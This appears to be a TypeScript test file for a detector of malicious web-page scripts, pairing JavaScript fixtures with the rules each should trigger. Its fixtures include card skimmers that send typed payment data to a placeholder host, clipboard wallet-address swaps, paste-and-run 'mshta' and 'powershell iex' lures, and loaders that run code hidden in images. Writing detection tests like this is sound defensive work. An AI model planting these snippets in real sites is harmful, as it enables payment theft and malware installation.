import assert from 'node:assert/strict';
import { signalsOf } from '../../../../analyzer/trace/signals.ts';
import { traceEvidence } from '../../../../analyzer/trace/evidence/index.ts';
import { run } from '../../emulator/sandbox-of-tests.ts';

async function found(text: string): Promise<{ reason: string; message: string }[]> {
  return traceEvidence(signalsOf(text, await run(text)), null).map(({ severity, rule, message }) => ({
    reason: `${severity} ${rule}`,
    message,
  }));
}

const hidden = (text: string): string => `atob('${Buffer.from(text).toString('base64')}')`;
const codes = (text: string): string => `String.fromCharCode(${[...Buffer.from(text)].join()})`;
const toPhones = (url: string): string =>
  `if (/iPhone|Android/.test(navigator.userAgent)) location.href = '${url}';`;
const cover = `var f = document.createElement('iframe'); f.style.cssText = 'position:fixed;width:100%;height:100%;z-index:9999'; f.src = 'https://x.example/'; document.body.appendChild(f);`;
const loader = `var x = new XMLHttpRequest(); x.onload = function () { eval(x.responseText) }; x.open('GET', 'https://x.example/a'); x.send();`;

const cases: Record<string, [string, string[]]> = {
  'an address of a wallet replaced in the function that copies': [
    `var w = navigator.clipboard.writeText; navigator.clipboard.writeText = function (t) { return w.call(this, t.charAt(0) === 'T' ? 'TQ52bF3e1c7d96aE843f25C19b7A64dE3f' : t) }`,
    ['high wallet-drain'],
  ],
  'an installer of documentation, copied': [
    `document.querySelector('button').onclick = function () { navigator.clipboard.writeText('powershell -c "irm https://x.example/install.ps1 | iex"') }`,
    [],
  ],
  'a link that lies unseen over the page': [
    `var a = document.createElement('a'); a.href = 'https://x.example/'; a.style.cssText = 'position:fixed;inset:0;opacity:0;z-index:99999'; document.body.appendChild(a)`,
    ['high page-covered'],
  ],
  'a banner that is a link': [
    `var a = document.createElement('a'); a.href = 'https://x.example/'; a.style.cssText = 'position:fixed;bottom:0;left:0;right:0;height:60px;opacity:1'; document.body.appendChild(a)`,
    [],
  ],
  'a program offered as an update of the browser': [
    `var o = document.createElement('div'); o.innerHTML = '<p>Update your browser now</p><button id="go">Update</button>'; document.body.appendChild(o); document.getElementById('go').onclick = function () { var a = document.createElement('a'); a.href = 'https://x.example/d?b=1'; a.download = 'Browser.Update.js'; document.body.appendChild(a) }`,
    ['high page-covered'],
  ],
  'a hint to the makers of browsers': [
    `var o = document.createElement('div'); o.innerHTML = '<p>Your browser is outdated. <a href="https://browsers.example/new/">Update it</a></p>'; document.body.appendChild(o)`,
    [],
  ],
  'links that only crawlers get': [
    `if (/googlebot|bingbot/i.test(navigator.userAgent)) { var d = document.createElement('div'); d.style.cssText = 'position:absolute;left:-9999px'; d.innerHTML = '<a href="https://x.example/">x</a>'; document.body.appendChild(d) }`,
    ['medium hidden-content-written'],
  ],
  'phones sent to pages for phones': [toPhones('https://m.site.example/'), ['low visitor-sent-away']],
  'phones sent elsewhere': [
    toPhones('https://other.example/'),
    ['low chosen-visitors', 'low visitor-sent-away'],
  ],
  'a visitor sent to another host of the same site': [
    `if (location.host != 'www.site.example') location.href = '//login.site.example/?to=https://www.site.example/'`,
    ['low visitor-sent-away'],
  ],
  'the order button taken over': [
    `document.querySelector('[onclick*="payment.save"]').addEventListener('click', function () { location.href = 'https://x.example/' })`,
    ['high visitor-sent-away'],
  ],
  'a page covered without being asked': [cover, ['high page-covered']],
  "a vendor's own host in packed code": [
    `var s = document.createElement('script'); s.src = ${hidden('https://www.gstatic.com/a.js')}; document.head.appendChild(s);`,
    ['low hidden-destination'],
  ],
  'another host in packed code': [
    `var s = document.createElement('script'); s.src = ${hidden('https://x.example/a.js')}; document.head.appendChild(s);`,
    ['high hidden-destination', 'high script-from-decoded-url'],
  ],
  'a host whose registered part can be read': [
    `var s = document.createElement('script'); s.src = 'https://' + ['en', 'gine'].join('') + '.x-cdn.example/a.js'; document.head.appendChild(s);`,
    [],
  ],
  'a script from an address in letter codes': [
    `var s = document.createElement('script'); s.src = ${codes('https://x.example/a.js')}; document.head.appendChild(s);`,
    ['high hidden-destination', 'high script-from-decoded-url'],
  ],
  'a visitor sent to an address written backwards': [
    `location.href = 'a/elpmaxe.x//:sptth'.split('').reverse().join('');`,
    ['high hidden-destination', 'high visitor-sent-away', 'high redirect-to-decoded-url'],
  ],
  'a script from an address that packing alone hides': [
    `var to = ''; for (const code of [${[...Buffer.from('https://x.example/a.js')].join()}]) to += String.fromCharCode(code);
    var s = document.createElement('script'); s.src = to; document.head.appendChild(s);`,
    ['high hidden-destination'],
  ],
  'a host that borrows a name, decoded and not yet used': [
    `var to = ${hidden('https://google-analytlcs.example.test/')}; var too = ${hidden('https://www.google-analytics.example/x')};`,
    ['medium imitated-host'],
  ],
  'typed card data that is kept': [
    `setTimeout(function () { localStorage.setItem('k', document.querySelector('#cc_number').value) }, 100)`,
    ['medium card-data-stored'],
  ],
  "another frame in the place of a service's": [
    `document.querySelector('iframe[src*="js.stripe.com"]').src = 'https://x.example/card'`,
    ['high form-redirected'],
  ],
  "a service's own frame put anew": [
    `var f = document.querySelector('iframe[src*="js.stripe.com"]'); f.outerHTML = '<iframe src="https://js.stripe.example/card"></iframe>'`,
    [],
  ],
  'another frame in the place of one that takes cards': [
    `document.querySelector('iframe[name*="hosted-card"]').outerHTML = '<iframe src="https://x.example/card"></iframe>'`,
    ['medium form-redirected'],
  ],
  'a copy of what a payment library is given': [
    `var real = Stripe.createToken; Stripe.createToken = function (card) { navigator.sendBeacon('https://x.example/', JSON.stringify(card)); return real.apply(this, arguments) }`,
    ['high requests-intercepted', 'critical typed-data-sent', 'low typed-data-sent'],
  ],
  'a service worker that copies the payment': [
    `self.addEventListener('fetch', e => { if (e.request.method === 'POST') e.request.clone().text().then(t => fetch('https://x.example/', { method: 'POST', body: t })) })`,
    ['high requests-intercepted', 'critical typed-data-sent', 'low typed-data-sent'],
  ],
  'styles that tell what a field holds': [
    `document.head.insertAdjacentHTML('beforeend', '<style>' + [1, 2, 3].map(n => 'input[name=cardnumber][value^="' + n + '"]{background:url(https://x.example/' + n + ')}').join('') + '</style>')`,
    ['critical typed-data-sent'],
  ],
  'styles for buttons by their label': [
    `document.head.insertAdjacentHTML('beforeend', '<style>input[value="Go"]{background:url(https://x.example/go.png)} a[href^="http"]{background:url(https://x.example/a.svg)}</style>')`,
    [],
  ],
  'code in a picture of the site': [
    `fetch('/media/logo.png').then(r => r.text()).then(t => { var m = t.match(/#([\\w+/=]+)#/); if (m) Function(atob(m[1]))() })`,
    ['high remote-code'],
  ],
  'code in the bytes of a picture': [
    `var x = new XMLHttpRequest(); x.open('GET', 'https://x.example/favicon.ico'); x.responseType = 'arraybuffer'; x.onload = function () { var s = ''; for (var b of new Uint8Array(x.response)) s += String.fromCharCode(b); var p = s.indexOf('EXIF'); if (p > 0) eval(s.substring(p + 4).split('').reverse().join('')) }; x.send()`,
    ['high remote-code'],
  ],
  'code over a data channel': [
    `var p = new RTCPeerConnection(), c = p.createDataChannel('a'), t = ''; p.setRemoteDescription({ type: 'answer', sdp: 'v=0' }); c.onmessage = function (e) { if (e.data) t += e.data; else eval(t) }`,
    ['high remote-code'],
  ],
  'a command that visitors shall run': [
    `document.body.innerHTML = '<button id="v">I am not a robot</button><p>Press Win + R, then Ctrl + V</p>'; document.getElementById('v').onclick = function () { navigator.clipboard.writeText('mshta https://x.example/v.hta') }`,
    ['high decoded-attack'],
  ],
  'the same by a text field': [
    `document.querySelector('button').addEventListener('click', function () { var t = document.createElement('textarea'); t.value = 'powershell -w hidden -c "iwr x.example | iex"'; document.body.appendChild(t); t.select(); document.execCommand('copy') })`,
    ['medium decoded-attack'],
  ],
  'a wallet address swapped': [
    `document.addEventListener('copy', function (e) { if (/^0x[0-9a-f]{40}$/i.test(getSelection().toString())) { e.clipboardData.setData('text/plain', '0x000000000000000000000000000000000000dEaD'); e.preventDefault() } })`,
    ['high wallet-drain'],
  ],
  'a copy with its source': [
    `document.addEventListener('copy', function (e) { e.clipboardData.setData('text/plain', getSelection() + ' (from ' + location.href + ')'); e.preventDefault() })`,
    [],
  ],
  'an update of the browser offered': [
    `document.write('<h1>Update Chrome</h1><p>You are using an older version of Chrome.</p><a href="https://x.example/Chrome.Update.zip" download>Update Chrome</a>')`,
    ['high page-covered'],
  ],
  'a notice for old browsers': [
    `document.write('<p>Your browser is out of date. <a href="https://browsers.example/get">Update your browser</a></p>')`,
    [],
  ],
  'links that nobody sees': [
    `document.write('<div style="position:absolute;left:-9999px"><a href="https://a.example/">a</a><a href="https://b.example/">b</a></div>')`,
    ['medium hidden-content-written'],
  ],
  'a link for screen readers': [
    `document.write('<a style="position:absolute;left:-9999px" href="#main">Skip</a>')`,
    ['low hidden-content-written'],
  ],
  'the way to the checkout turned': [
    `document.querySelector('a[href*="/checkout"]').addEventListener('click', function (e) { e.preventDefault(); location.href = 'https://x.example/pay' })`,
    ['medium visitor-sent-away'],
  ],
  'an answer that is run': [loader, ['medium remote-code']],
  'an answer that is run for visitors from search engines': [
    `if (document.referrer.indexOf('google') > 0) { ${loader} }`,
    ['high chosen-visitors', 'high remote-code'],
  ],
};

describe('evidence of the run', () => {
  for (const [title, [script, expected]] of Object.entries(cases))
    it(`sees ${title}`, async () =>
      assert.deepEqual(
        (await found(script)).map(({ reason }) => reason),
        expected,
      ));

  it('speaks of one thing in the singular and of several in the plural', async () => {
    const one = `new Image().src = 'https://x.example/?' + document.querySelector('#cc_number').value`;
    const two = `${one} + '&' + document.querySelector('#cc_owner').value`;
    const says = async (text: string): Promise<string> => (await found(text))[0]!.message;
    assert.match(await says(one), /^The typed card number was seen on its way/);
    assert.match(await says(two), /^The typed .+ and .+ were seen on their way/);
  });
});
